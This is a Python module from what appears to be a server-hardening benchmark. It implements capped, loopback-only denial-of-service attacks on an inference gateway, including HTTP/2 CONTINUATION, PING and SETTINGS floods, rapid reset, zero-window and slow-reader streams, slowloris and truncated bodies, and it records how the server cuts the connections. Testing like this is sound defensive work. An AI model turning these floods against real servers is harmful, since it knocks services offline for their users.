"""The attacks: small classes, one per abuse, in ``ATTACKS`` (name -> class), each naming the front
end it targets (``grpc``: the gateway's gRPC port, HTTP/2 with prior knowledge; ``http``: its
HTTP/1.1 port). Loopback only; every attack is bounded by its caps (connections, frames or
requests written, bytes written) and by the window ``execute`` gives it.

``execute(attack, duration_s, grace_s)`` runs one: the attack opens its connections and does its
harm; once it has spent its caps, what it holds stays held (and read) until the window ends or the
server has cut every connection. Then, for up to ``grace_s``, the attacker stops sending and only
watches whether the server disconnects what is left. A disconnect is the first of: GOAWAY, end of
stream, reset, or a TCP state other than ESTABLISHED (see ``wire``).

Valid calls that are part of an attack (``zero-window``, ``slow-reader``) go to ServerMetadata,
which the gateway answers itself, so those rows measure flow control and buffering, not the
pool's capacity; ``rapid-reset`` sends whole ModelInfer requests, as that attack does.
"""

from __future__ import annotations

import asyncio
import contextlib
from abc import ABC, abstractmethod
from collections import Counter
from dataclasses import asdict, dataclass, field
from typing import Any, ClassVar

from benchmarks.abuse.wire import (
    Budget,
    Conn,
    data_frame,
    grpc_header_block,
    grpc_message,
    headers_frame,
    now,
)
from benchmarks.loadgen.payloads import PayloadFactory
from gateway.grpc_server.frames import (
    MAX_WINDOW,
    ErrorCode,
    FrameType,
    Setting,
    frame,
    rst_stream,
    settings_frame,
)
from gateway.protocol.v2 import GRPC_INFER_METHOD, GRPC_SERVICE

KiB = 1024
MiB = 1024 * 1024
METADATA_METHOD = f"/{GRPC_SERVICE}/ServerMetadata"
GRPC = "grpc"
HTTP = "http"


@dataclass(frozen=True)
class Target:
    host: str
    grpc_port: int
    http_port: int
    model: str
    max_message_bytes: int  # the gateway's max_body_bytes: largest gRPC message or HTTP body


class Context:
    """What an attack works with: its target, its caps, its connections and counters."""

    def __init__(self, target: Target, budget: Budget, max_connections: int) -> None:
        self.target = target
        self.budget = budget
        self.max_connections = max_connections
        self.t0 = now()
        self.conns: list[Conn] = []
        self.counters: Counter[str] = Counter()

    def _check_cap(self) -> None:
        if len(self.conns) >= self.max_connections:
            raise RuntimeError(f"an attack opened more than its {self.max_connections} connections")

    async def h2(
        self,
        settings: dict[Setting, int] | None = None,
        *,
        connection_window: int | None = MAX_WINDOW,
        read: bool = True,
        rcvbuf: int | None = None,
    ) -> Conn:
        """A gRPC connection, preface and SETTINGS sent; ``read``: read (and ack) in the background."""
        self._check_cap()
        t = self.target
        conn = await Conn.open(t.host, t.grpc_port, self.t0, self.budget, h2=True, rcvbuf=rcvbuf)
        self.conns.append(conn)
        if read:
            conn.start_reader()
        await conn.start_h2(settings, connection_window=connection_window)
        return conn

    async def http(self) -> Conn:
        """An HTTP/1.1 connection to the HTTP front end, read in the background."""
        self._check_cap()
        t = self.target
        conn = await Conn.open(t.host, t.http_port, self.t0, self.budget, h2=False)
        self.conns.append(conn)
        conn.start_reader()
        return conn

    @property
    def all_gone(self) -> bool:
        return bool(self.conns) and all(c.gone for c in self.conns)

    async def hold(self) -> None:
        """Keep every connection open until each is cut (the caller bounds the time)."""
        while self.conns and not self.all_gone:
            for c in self.conns:
                c.poll_tcp()
            await asyncio.sleep(0.05)


class Attack(ABC):
    name: ClassVar[str]
    front: ClassVar[str]  # GRPC or HTTP
    summary: ClassVar[str]
    max_connections: ClassVar[int] = 1
    max_frames: ClassVar[int]  # frames (HTTP: writes) in all, over every connection
    max_bytes: ClassVar[int]

    def __init__(self, target: Target) -> None:
        self.target = target

    @abstractmethod
    async def run(self, ctx: Context) -> None:
        """Do the harm; return when the caps are spent or the server cut the connections."""


# -- gRPC (HTTP/2) ----------------------------------------------------------------------------


class _H2Attack(Attack):
    front = GRPC

    def __init__(self, target: Target) -> None:
        super().__init__(target)
        authority = f"{target.host}:{target.grpc_port}"
        self.infer_block = grpc_header_block(GRPC_INFER_METHOD, authority)
        self.metadata_block = grpc_header_block(METADATA_METHOD, authority)
        # A small valid ModelInfer request (one query): a real call, cheap to send by the thousand.
        self.infer_message = grpc_message(PayloadFactory(target.model, None, max_batch=1).grpc(1, "abuse"))
        self.metadata_message = grpc_message(b"")  # an empty ServerMetadataRequest

    async def open_streams(self, conn: Conn, ctx: Context, count: int, first_sid: int = 1) -> int:
        """``count`` ModelInfer streams with HEADERS only (never data); returns the next id."""
        sid = first_sid
        for start in range(0, count, 100):
            n = min(100, count - start)
            burst = b"".join(headers_frame(sid + 2 * i, self.infer_block) for i in range(n))
            if not await conn.send(burst, frames=n):
                break
            sid += 2 * n
            ctx.counters["streams_opened"] += n
        return sid

    async def metadata_calls(self, conn: Conn, ctx: Context, count: int) -> None:
        """``count`` whole ServerMetadata calls, within the server's connection window."""
        msg = self.metadata_message
        sid = 1
        for start in range(0, count, 100):
            n = min(100, count - start)
            if not await conn.wait_window(n * len(msg)):
                return
            burst = b"".join(
                headers_frame(sid + 2 * i, self.metadata_block)
                + data_frame(sid + 2 * i, msg, end_stream=True)
                for i in range(n)
            )
            if not await conn.send(burst, frames=2 * n):
                return
            conn.send_window -= n * len(msg)
            sid += 2 * n
            ctx.counters["calls_sent"] += n


class ContinuationFlood(_H2Attack):
    name = "continuation-flood"
    summary = "HEADERS without END_HEADERS, then empty CONTINUATION frames as fast as possible"
    max_frames = 4_000_000
    max_bytes = 40 * MiB

    async def run(self, ctx: Context) -> None:
        conn = await ctx.h2()
        if not await conn.send(headers_frame(1, self.infer_block, end_headers=False)):
            return
        n = 2048
        burst = frame(FrameType.CONTINUATION, 0, 1) * n
        while await conn.send(burst, frames=n):
            ctx.counters["continuation_frames"] += n


class PingFlood(_H2Attack):
    name = "ping-flood"
    summary = "PING frames as fast as possible, reading the acks"
    max_frames = 3_000_000
    max_bytes = 64 * MiB
    read = True

    async def run(self, ctx: Context) -> None:
        # Not reading: a receive buffer as small as the kernel allows, so the acks back up at once.
        conn = await ctx.h2(read=self.read, rcvbuf=None if self.read else 4 * KiB)
        n = 1024
        burst = frame(FrameType.PING, 0, 0, b"abuse!!!") * n
        while await conn.send(burst, frames=n):
            ctx.counters["pings_sent"] += n
            if not self.read:
                conn.poll_tcp()


class PingFloodNoRead(PingFlood):
    name = "ping-flood-noread"
    summary = "PING frames as fast as possible, never reading the socket"
    read = False


class SettingsFlood(_H2Attack):
    name = "settings-flood"
    summary = "1,000 headers-only streams open, then SETTINGS frames (window size flips) as fast as possible"
    streams = 1000
    max_frames = 500_000 + 1100
    max_bytes = 64 * MiB

    async def run(self, ctx: Context) -> None:
        conn = await ctx.h2()
        await self.open_streams(conn, ctx, self.streams)
        # Each INITIAL_WINDOW_SIZE change applies to every open stream: work per frame ~ streams.
        a = settings_frame({Setting.INITIAL_WINDOW_SIZE: MiB, Setting.HEADER_TABLE_SIZE: 4096})
        b = settings_frame({Setting.INITIAL_WINDOW_SIZE: MiB + 1, Setting.HEADER_TABLE_SIZE: 2048})
        n = 512
        burst = (a + b) * (n // 2)
        while await conn.send(burst, frames=n):
            ctx.counters["settings_sent"] += n


class RapidReset(_H2Attack):
    name = "rapid-reset"
    summary = "whole ModelInfer calls, each reset (RST_STREAM CANCEL) at once: 30,000 streams"
    streams = 30_000
    max_frames = 3 * 30_000 + 100
    max_bytes = 64 * MiB

    async def run(self, ctx: Context) -> None:
        conn = await ctx.h2()
        msg = self.infer_message
        sid = 1
        batch = 100
        for _ in range(0, self.streams, batch):
            # DATA counts against the connection window even on a reset stream: honour it.
            if not await conn.wait_window(batch * len(msg)):
                return
            burst = b"".join(
                headers_frame(s, self.infer_block)
                + data_frame(s, msg, end_stream=True)
                + rst_stream(s, ErrorCode.CANCEL)
                for s in range(sid, sid + 2 * batch, 2)
            )
            if not await conn.send(burst, frames=3 * batch):
                return
            conn.send_window -= batch * len(msg)
            sid += 2 * batch
            ctx.counters["streams_reset"] += batch


class ZeroWindow(_H2Attack):
    name = "zero-window"
    summary = "INITIAL_WINDOW_SIZE 0, connection window never updated, 1,000 calls per connection x 4"
    max_connections = 4
    calls = 1000
    max_frames = 4 * (2 * 1000 + 100)  # + acks the server asks for
    max_bytes = 4 * MiB

    async def run(self, ctx: Context) -> None:
        for _ in range(self.max_connections):
            conn = await ctx.h2({Setting.INITIAL_WINDOW_SIZE: 0}, connection_window=None)
            await self.metadata_calls(conn, ctx, self.calls)


class HeadersOnly(_H2Attack):
    name = "headers-only"
    summary = "1,000 ModelInfer streams per connection x 4 opened with HEADERS, never any data"
    max_connections = 4
    streams = 1000
    max_frames = 4 * (1000 + 100)
    max_bytes = 8 * MiB

    async def run(self, ctx: Context) -> None:
        for _ in range(self.max_connections):
            conn = await ctx.h2()
            await self.open_streams(conn, ctx, self.streams)


class SlowReader(_H2Attack):
    name = "slow-reader"
    summary = "1,000 ServerMetadata calls per connection x 4, the answers then read at 4 bytes/s"
    max_connections = 4
    # Within the server's concurrent streams (1,024 native): over it, what is measured would be
    # refused streams, not a slow reader. Within the default connection window too, since the
    # server's WINDOW_UPDATEs are not read in time.
    calls = 1000
    max_frames = 4 * (2 * 1000 + 100)
    max_bytes = 8 * MiB

    async def run(self, ctx: Context) -> None:
        for _ in range(self.max_connections):
            conn = await ctx.h2({Setting.INITIAL_WINDOW_SIZE: MAX_WINDOW}, read=False, rcvbuf=4 * KiB)
            await self.metadata_calls(conn, ctx, self.calls)
            conn.start_reader(chunk=4, interval_s=1.0)


class UnfinishedBodies(_H2Attack):
    name = "unfinished-bodies"
    summary = (
        "64 ModelInfer streams at a time, each declaring the max message and sending most of it, "
        "never ending; a stream the server resets is replaced (1,024 streams, 256 MiB in all)"
    )
    streams = 64
    max_streams = 1024
    total_bytes = 256 * MiB
    max_frames = 1_000_000
    max_bytes = 256 * MiB + 256 * KiB

    async def run(self, ctx: Context) -> None:
        conn = await ctx.h2()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(2.0):
                await conn.settings_received.wait()  # its windows and frame size
        declared = self.target.max_message_bytes
        per_stream = min(declared - 1, self.total_bytes // self.streams)
        chunk = min(conn.peer_max_frame, 256 * KiB)
        zeros = bytes(chunk)
        remaining: dict[int, int] = {}  # open streams: body bytes still to send
        started: set[int] = set()
        next_sid = 1
        opened = 0
        while not conn.gone:
            for s in [s for s in remaining if s in conn.reset_streams or s in conn.ended_streams]:
                del remaining[s]  # the server ended it: its data would be thrown away
            while len(remaining) < self.streams and opened < self.max_streams:
                if not await conn.send(headers_frame(next_sid, self.infer_block)):
                    return
                conn.open_stream(next_sid)
                remaining[next_sid] = per_stream
                next_sid += 2
                opened += 1
                ctx.counters["streams_opened"] += 1
            if not any(remaining.values()):
                return  # every stream holds its part of a body: nothing left to send
            progressed = False
            for s in list(remaining):
                n = min(remaining[s], conn.window(s), chunk)
                if n <= 0:
                    continue
                # The first DATA of a stream opens its message: a length prefix of ``declared``.
                payload = zeros[:n] if s in started else grpc_message(zeros[: n - 5], declared)
                if not await conn.send(data_frame(s, payload)):
                    return
                started.add(s)
                conn.consume(s, n)
                remaining[s] -= n
                ctx.counters["body_bytes"] += n
                progressed = True
            if not progressed:  # no window anywhere: wait for an update or a reset stream
                await conn.window_opened()


# -- HTTP/1.1 ---------------------------------------------------------------------------------


class _HttpAttack(Attack):
    front = HTTP

    def head(self, extra: str = "") -> bytes:
        t = self.target
        return (
            f"POST /v2/models/{t.model}/infer HTTP/1.1\r\nHost: {t.host}:{t.http_port}\r\n"
            f"Content-Type: application/json\r\n{extra}"
        ).encode()


class Slowloris(_HttpAttack):
    name = "slowloris"
    summary = "100 connections, each sending its request head one byte a second"
    max_connections = 100
    max_frames = 100 * 1000
    max_bytes = 4 * MiB

    async def run(self, ctx: Context) -> None:
        conns = [await ctx.http() for _ in range(self.max_connections)]
        for conn in conns:
            await conn.send(self.head())
        trickle = b"X-Slow: a\r\n"
        i = 0
        while not ctx.all_gone:
            await asyncio.sleep(1.0)
            byte = trickle[i % len(trickle) : i % len(trickle) + 1]
            i += 1
            for conn in conns:
                if not conn.gone and await conn.send(byte):
                    ctx.counters["bytes_trickled"] += 1


class ShortBody(_HttpAttack):
    name = "short-body"
    summary = "100 connections, each declaring Content-Length 1,000,000 and sending 1,000 bytes"
    max_connections = 100
    max_frames = 100
    max_bytes = 1 * MiB

    async def run(self, ctx: Context) -> None:
        body = b'{"inputs": [' + b" " * 988
        for _ in range(self.max_connections):
            conn = await ctx.http()
            if await conn.send(self.head("Content-Length: 1000000\r\n\r\n") + body):
                ctx.counters["requests_started"] += 1


class HttpUnfinishedBodies(_HttpAttack):
    name = "http-unfinished-bodies"
    summary = "32 connections, each declaring the max body and sending most of it (256 MiB in all)"
    max_connections = 32
    max_frames = 1_000_000
    max_bytes = 256 * MiB + 64 * KiB

    async def run(self, ctx: Context) -> None:
        declared = self.target.max_message_bytes
        per_conn = min(declared - 1, (256 * MiB) // self.max_connections)
        chunk = bytes(64 * KiB)
        conns = [await ctx.http() for _ in range(self.max_connections)]

        async def feed(conn: Conn) -> None:
            if not await conn.send(self.head(f"Content-Length: {declared}\r\n\r\n")):
                return
            left = per_conn
            while left > 0:
                n = min(left, len(chunk))
                if not await conn.send(memoryview(chunk)[:n]):
                    return
                left -= n
                ctx.counters["body_bytes"] += n

        await asyncio.gather(*(feed(c) for c in conns))


ATTACKS: dict[str, type[Attack]] = {
    cls.name: cls
    for cls in (
        ContinuationFlood,
        PingFlood,
        PingFloodNoRead,
        SettingsFlood,
        RapidReset,
        ZeroWindow,
        HeadersOnly,
        SlowReader,
        UnfinishedBodies,
        Slowloris,
        ShortBody,
        HttpUnfinishedBodies,
    )
}


# -- running one ------------------------------------------------------------------------------


@dataclass
class AttackOutcome:
    """What the attacker saw; times in seconds from the attack's start."""

    attack: str
    front: str
    connections: int = 0
    disconnected: int = 0
    first_disconnect_s: float | None = None
    last_disconnect_s: float | None = None
    reasons: dict[str, int] = field(default_factory=dict)  # how the server cut them
    sent_frames: int = 0  # frames (HTTP: writes) the attacker wrote
    sent_bytes: int = 0
    received_bytes: int = 0
    frames_in: dict[str, int] = field(default_factory=dict)  # what the server sent, by kind
    counters: dict[str, int] = field(default_factory=dict)  # the attack's own (pings_sent, ...)
    ended_by: str = "window"  # window | caps | disconnected | error
    attack_s: float = 0.0  # how long the attack itself lasted (the grace excluded)
    error: str | None = None

    @property
    def all_disconnected(self) -> bool:
        return self.connections > 0 and self.disconnected == self.connections

    def to_json(self) -> dict[str, Any]:
        return asdict(self)

    @classmethod
    def from_json(cls, doc: dict[str, Any]) -> AttackOutcome:
        return cls(**{k: v for k, v in doc.items() if k in cls.__dataclass_fields__})


def _r(x: float | None) -> float | None:
    return None if x is None else round(x, 3)


async def execute(attack: Attack, duration_s: float, grace_s: float) -> AttackOutcome:
    """Run ``attack`` for at most ``duration_s``, then watch up to ``grace_s`` for disconnects."""
    budget = Budget(attack.max_frames, attack.max_bytes)
    ctx = Context(attack.target, budget, attack.max_connections)
    out = AttackOutcome(attack.name, attack.front)
    try:
        async with asyncio.timeout(duration_s):
            await attack.run(ctx)
            await ctx.hold()
    except TimeoutError:
        pass
    except (OSError, RuntimeError) as exc:  # refused, or an attack past its caps (a bug)
        out.error = f"{type(exc).__name__}: {exc}"
    out.attack_s = round(now() - ctx.t0, 3)
    if out.error is not None:
        out.ended_by = "error"
    elif ctx.all_gone and out.attack_s < duration_s:
        out.ended_by = "disconnected"
    elif budget.exhausted:
        out.ended_by = "caps"
    left = [c for c in ctx.conns if not c.gone]
    # An attack that spent its caps early still holds its connections for the attack's duration:
    # a server that cuts them on a timer must be watched until then, whatever the sender's speed.
    watch_s = grace_s + (max(0.0, duration_s - out.attack_s) if out.ended_by == "caps" else 0.0)
    if left and watch_s > 0:
        await asyncio.gather(*(c.drain_briefly(watch_s) for c in left))
    for c in ctx.conns:
        c.poll_tcp()
        c.close()
    closed = sorted(c.closed_s for c in ctx.conns if c.closed_s is not None)
    reasons: Counter[str] = Counter(c.reason for c in ctx.conns if c.reason is not None)
    frames_in: Counter[str] = Counter()
    for c in ctx.conns:
        frames_in.update(c.frames_in)
    out.connections = len(ctx.conns)
    out.disconnected = len(closed)
    out.first_disconnect_s = _r(closed[0]) if closed else None
    out.last_disconnect_s = _r(closed[-1]) if closed else None
    out.reasons = dict(reasons.most_common())
    out.sent_frames = budget.frames
    out.sent_bytes = budget.bytes
    out.received_bytes = sum(c.received_bytes for c in ctx.conns)
    out.frames_in = dict(frames_in.most_common())
    out.counters = dict(ctx.counters)
    return out
